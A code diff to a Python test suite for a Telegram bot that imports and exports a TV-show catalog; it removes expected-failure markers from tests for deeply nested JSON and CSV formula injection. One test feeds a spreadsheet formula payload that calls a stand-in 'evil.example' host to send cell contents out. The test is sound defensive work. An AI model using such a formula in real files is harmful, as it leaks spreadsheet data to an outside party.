@@ -135,13 +135,6 @@ async def ask_import(fake: FakeTelegram, chat: int) -> int:
     return before + 1
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="a JSON file nested ~1000+ deep makes json.loads raise RecursionError, which "
-    "bot/catalog/import_formats._json_entries does not catch (only ValueError): the handler "
-    "crashes, logs an ERROR and the fan is told to try again later ('Something went "
-    "wrong on my side'), which can never help",
-)
 async def test_a_deeply_nested_json_file_gets_the_unreadable_answer(
     bot: BotRunner, fake: FakeTelegram, caplog: pytest.LogCaptureFixture
 ):
@@ -185,12 +178,6 @@ def exported_cells(title: str) -> dict[str, str]:
     return row
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="bot/catalog/export.export_csv writes TVmaze titles verbatim; a title starting "
-    "with = + - @ (TVmaze is community-edited; '@midnight' is a real show) is a formula when "
-    "the BOM'd CSV is opened in a spreadsheet (CSV injection, OWASP: prefix with ')",
-)
 def test_export_does_not_write_spreadsheet_formulas():
     row = exported_cells('=HYPERLINK("https://evil.example/?"&A1,"Dark")')
     assert not row["title"].startswith(("=", "+", "-", "@")), row["title"]
